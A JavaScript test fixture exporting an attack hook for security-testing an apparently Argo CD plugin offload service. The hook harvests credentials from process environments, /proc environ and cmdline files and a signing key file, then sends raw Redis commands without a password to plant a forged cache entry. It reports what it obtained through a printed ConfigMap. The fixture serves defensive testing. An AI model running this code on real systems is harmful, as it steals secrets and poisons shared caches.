/**
 * Repository code that a plugin runs (a helmfile hook, a kustomize exec plugin, a cdk8s app):
 * it tries every way we know to get at the service's credentials and at Redis, and reports
 * what it got in the manifests it prints, so the test reads the attack's outcome from the
 * answer itself. Runs with the plugin's uid, env and cwd, as `node hook.mjs`.
 *
 * Targets come from the request env, as an attacker would know them: ARGOCD_ENV_KEYFILE (the
 * signing key file's well-known path), ARGOCD_ENV_REDIS_PORT (Redis is on the network).
 * ARGOCD_ENV_SCOPE_PID (the test process) bounds the /proc search to the system under test: in a
 * pod the PID namespace holds only the pod's processes, while a test machine also runs other
 * test files' (and other people's) workers, whose environ a root plugin reads without that
 * saying anything about the process under test.
 */
export const ATTACK_HOOK = String.raw`
import fs from 'node:fs';
import net from 'node:net';

const got = [];
// 1. Our own env.
for (const name of Object.keys(process.env)) if (/^(CMP_OFFLOAD_|REDIS)/i.test(name)) got.push('env:' + name);
// 2. Every process of the system under test we can see: its environ and its command line.
const scope = Number(process.env.ARGOCD_ENV_SCOPE_PID);
const parentOf = pid => {
  try {
    const stat = fs.readFileSync('/proc/' + pid + '/stat', 'latin1');
    return Number(stat.slice(stat.lastIndexOf(')') + 2).split(' ')[1]);
  } catch {
    return 0;
  }
};
const inScope = pid => {
  if (!Number.isSafeInteger(scope) || scope <= 1) return true;
  for (let p = pid, hops = 0; p > 1 && hops < 100; p = parentOf(p), hops++) if (p === scope) return true;
  return false;
};
for (const pid of fs.readdirSync('/proc').filter(d => /^\d+$/.test(d) && inScope(Number(d)))) {
  for (const f of ['environ', 'cmdline']) {
    try {
      const text = fs.readFileSync('/proc/' + pid + '/' + f, 'latin1');
      if (/CMP_OFFLOAD_(SIGNING_KEY|REDIS_URL)|redis:\/\/[^@\s]*:[^@\s]+@/.test(text)) got.push(f + ':' + pid);
    } catch {}
  }
}
// 3. The key file.
try { fs.readFileSync(process.env.ARGOCD_ENV_KEYFILE); got.push('keyfile'); } catch {}
// 4. Redis without the password: PING, then try to plant a cache entry for the victim.
const port = Number(process.env.ARGOCD_ENV_REDIS_PORT);
const victim = '{cmp-offload}:out:hostile:victim:' + 'f'.repeat(64);
const replies = await new Promise(resolve => {
  let out = '';
  const s = net.connect(port, '127.0.0.1', () => {
    s.write('*1\r\n$4\r\nPING\r\n');
    s.write('*3\r\n$3\r\nSET\r\n$' + victim.length + '\r\n' + victim + '\r\n$6\r\nforged\r\n');
  });
  s.on('data', d => { out += d; if (out.split('\r\n').length > 2) s.end(); });
  s.on('error', () => resolve(out));
  s.on('close', () => resolve(out));
  setTimeout(() => { s.destroy(); resolve(out); }, 3000);
});
if (/^\+(PONG|OK)/m.test(replies)) got.push('redis');
process.stdout.write(JSON.stringify({ apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: process.env.ARGOCD_APP_NAME }, data: { got: got.join(' ') || 'nothing', redis: replies.split('\r\n')[0] } }) + '\n');
`;
